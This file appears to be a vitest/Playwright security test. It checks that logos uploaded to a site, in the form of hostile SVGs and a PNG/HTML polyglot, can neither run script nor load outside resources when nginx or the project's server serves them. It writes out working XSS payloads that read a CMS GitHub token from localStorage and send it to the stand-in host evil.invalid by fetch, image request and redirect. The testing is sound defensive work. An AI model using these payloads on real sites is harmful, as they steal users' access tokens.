import { type ChildProcess, spawn } from 'node:child_process';
import { cp, mkdir, readdir, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { launchOptions } from '@mirocals/tools/chromium';
import { type Browser, chromium } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { publish } from '../deploy/src/publish.ts';
import { noNginx, startNginx } from '../deploy/test/nginx.ts';
import { scratch } from '../deploy/test/small-site.ts';

const dist = fileURLToPath(new URL('../apps/site/dist', import.meta.url));

/** Reads the token that the studio keeps after signing in, and sends it away by every way that a page has. */
const steal = `
  const token = JSON.parse(localStorage.getItem('sveltia-cms.user')).token;
  document.documentElement.setAttribute('data-ran', token);
  fetch('https://evil.invalid/?t=' + token);
  new Image().src = 'https://evil.invalid/i?t=' + token;
  location.href = 'https://evil.invalid/l?t=' + token;`;

const svg = (inner: string, attributes = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9"${attributes}>${inner}</svg>`;

const escaped = steal.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;');

/** A PNG of one pixel, followed by a page. */
const polyglot = Buffer.concat([
  Buffer.from(
    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
    'base64',
  ),
  Buffer.from(`<!doctype html><script>${steal}</script>`),
]);

/** Logos as they would be served if nothing had looked at them: the check refuses each of them but the PNG, which is written anew. */
const logos: Record<string, string | Buffer> = {
  'script.svg': svg(`<script>${escaped}</script>`),
  'onload.svg': svg('', ` onload="${escaped}"`),
  'foreign.svg': svg(
    `<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="${escaped}"/><iframe src="/studio/"/></body></foreignObject>`,
  ),
  'use.svg': svg(
    '<use href="https://evil.invalid/x.svg#a"/><image href="https://evil.invalid/x.png" width="9" height="9"/>',
  ),
  'own.svg': svg('<script href="/logos/script.png"/><script xlink:href="/embed/v1/mirocals.js"/>'),
  'style.svg': svg(
    '<style>@import "https://evil.invalid/x.css"; svg { background: url(https://evil.invalid/b) }</style>',
  ),
  'script.png': steal,
  'polyglot.png': polyglot,
};

describe.each([
  ['nginx', noNginx],
  ['pnpm start', undefined],
] as const)('a hostile logo that the check did not see, served by %s', (server, skipped) => {
  let folder: Awaited<ReturnType<typeof scratch>>;
  let origin: string;
  let browser: Browser;
  let stop: () => unknown;

  beforeAll(async () => {
    if (skipped) return;
    folder = await scratch();
    const site = join(folder.path, 'site');
    await cp(dist, site, { recursive: true });
    await mkdir(join(site, 'logos'), { recursive: true });
    for (const [name, data] of Object.entries(logos)) await writeFile(join(site, 'logos', name), data);
    if (server === 'nginx') {
      await publish({ site, root: join(folder.path, 'www'), keep: 1 });
      const nginx = await startNginx(join(folder.path, 'nginx'), join(folder.path, 'www'));
      origin = nginx.address.replace('127.0.0.1', 'localhost');
      stop = () => nginx[Symbol.asyncDispose]();
    } else {
      const child = await startServe(site);
      origin = child.address;
      stop = () => child.process.kill();
    }
    browser = await chromium.launch(await launchOptions());
  });

  afterAll(async () => {
    await browser?.close();
    await stop?.();
    await folder?.[Symbol.asyncDispose]();
  });

  it.skipIf(skipped).each(Object.keys(logos))(
    '%s runs nothing, loads nothing and reads no token, opened or shown',
    async (name) => {
      const context = await browser.newContext();
      const page = await context.newPage();
      const asked: string[] = [];
      await context.route('https://evil.invalid/**', (route) => {
        asked.push(route.request().url());
        return route.abort();
      });
      await page.goto(`${origin}/robots.txt`);
      await page.evaluate(() =>
        localStorage.setItem('sveltia-cms.user', JSON.stringify({ backendName: 'github', token: 'ghp_SECRET' })),
      );
      const address = `${origin}/logos/${name}`;
      const response = await page.goto(address);
      expect(response?.status()).toBe(200);
      expect(await page.evaluate(() => document.documentElement.getAttribute('data-ran'))).toBeNull();
      // Its origin is opaque, so a script in it could read nothing.
      const reads = await page.evaluate(() => {
        try {
          return localStorage.getItem('sveltia-cms.user');
        } catch (error) {
          return (error as Error).name;
        }
      });
      expect(reads).toBe('SecurityError');
      await page.goto(`${origin}/partners/`);
      await page.evaluate(
        (src) =>
          new Promise<void>((resolve) => {
            const image = new Image();
            image.onload = image.onerror = () => resolve();
            image.src = src;
            document.body.append(image);
          }),
        address,
      );
      await page.waitForLoadState('networkidle');
      expect(page.url()).toBe(`${origin}/partners/`);
      expect(asked).toEqual([]);
      await context.close();
    },
  );
});

/** Starts the server of `pnpm start` on another site: it serves the folder `dist` beside its own file, which here is a link. */
const startServe = async (site: string): Promise<{ address: string; process: ChildProcess }> => {
  const app = fileURLToPath(new URL('../apps/site/', import.meta.url));
  const place = join(site, '../app');
  await mkdir(place);
  for (const name of await readdir(app)) if (name !== 'dist') await symlink(join(app, name), join(place, name));
  await symlink(site, join(place, 'dist'));
  const child = spawn(process.execPath, ['--preserve-symlinks-main', join(place, 'serve.ts')], {
    env: { ...process.env, PORT: '0', PARTNER_PORT: '0' },
  });
  let text = '';
  child.stderr.on('data', (part) => (text += part));
  return new Promise((resolve, reject) => {
    child.stdout.on('data', (part) => {
      text += part;
      const [address] = text.match(/http:\/\/localhost:\d+/) ?? [];
      if (address) resolve({ address, process: child });
    });
    child.once('close', () => reject(new Error(`ended before it listened: ${text}`)));
  });
};
